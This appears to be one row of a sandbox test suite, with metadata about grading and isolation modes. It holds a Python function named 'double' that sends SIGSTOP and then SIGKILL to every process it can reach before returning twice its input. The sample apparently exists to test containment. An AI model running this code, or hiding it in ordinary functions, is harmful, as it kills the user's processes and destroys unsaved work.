# row: 7
# says: sends SIGSTOP and SIGKILL to every process it may
# marks: double ?, rest full
# status: graded | graded with warnings
# holds: warm cold landlock

# %% double
import os
import signal


def double(x):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except OSError:
            pass
    return 2 * x
